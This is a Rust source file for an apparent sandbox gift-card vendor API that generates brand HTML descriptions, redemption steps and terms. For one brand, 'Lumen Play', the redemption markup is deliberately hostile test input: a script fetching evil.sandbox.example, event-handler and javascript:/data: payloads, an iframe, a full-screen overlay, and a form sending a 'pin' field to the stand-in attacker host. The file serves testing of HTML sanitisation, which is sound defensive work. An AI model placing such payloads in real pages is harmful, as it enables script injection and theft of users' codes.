//! The HTML that brands publish, one brand's hostile on purpose (api-notes §1 rule 11).

use serde_json::{Value, json};

use super::catalogue::Brand;

const LANGUAGES: [&str; 10] = ["en", "es", "fr", "de", "it", "pt", "zh", "tr", "vi", "tl"];

/// `rich_description`: null for a language that the vendor does not know (O mid-2026).
pub fn description(brand: &Brand, lang: &str) -> Value {
    if !LANGUAGES.contains(&lang) {
        return Value::Null;
    }
    let name = escape(&brand.name);
    json!({
        "markup": "html",
        "locale": lang,
        "country_code": brand.country,
        "brand_tagline": format!("{name}, for every occasion"),
        "brand_url": "https://brand.sandbox.example/",
        "description": format!("<p>Spend it at <strong>{name}</strong>, all at once or bit by bit.</p>"),
        "how_to_redeem": redeem(&brand.name),
        "term_and_conditions": terms(&brand.name),
        "note": "<p>Not exchangeable for cash.</p>",
        "redeem_geo": brand.country,
    })
}

/// How to redeem a code of this brand.
pub fn redeem(brand: &str) -> String {
    let name = escape(brand);
    let plain = format!(
        "<p>To use your {name} code:</p><ol>\
         <li>Open <a href=\"https://redeem.sandbox.example/start\">the redemption page</a>.</li>\
         <li>Sign in, or create an account.</li>\
         <li>Enter the <em>code</em> exactly as shown.</li></ol>\
         <p>Trouble? Visit <a href=\"http://help.sandbox.example/codes\">our help pages</a>.</p>"
    );
    if brand != "Lumen Play" {
        return plain;
    }
    format!(
        "{plain}<script>window.__hostile = true; fetch('https://evil.sandbox.example/');</script>\
         <img src=\"x\" onerror=\"window.__hostile = true\">\
         <a href=\"javascript:window.__hostile = true\">Click here for a bonus</a>\
         <a href=\"data:text/html,<script>parent.__hostile = true</script>\">Or here</a>\
         <iframe src=\"https://evil.sandbox.example/frame\"></iframe>\
         <svg onload=\"window.__hostile = true\"></svg>\
         <p style=\"position:fixed;inset:0;background:red\" onclick=\"window.__hostile = true\">\
         Covered</p><form action=\"https://evil.sandbox.example/\"><input name=\"pin\"></form>\
         <style>* {{ display: none !important }}</style><b>unclosed"
    )
}

/// Terms and conditions.
pub fn terms(brand: &str) -> String {
    let name = escape(brand);
    format!(
        "<ul><li>Issued by {name}.</li><li>Valid for three years.</li>\
         <li>Delivered digital goods are not refundable.</li></ul>"
    )
}

/// Text inside HTML or SVG.
pub fn escape(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            other => out.push(other),
        }
    }
    out
}
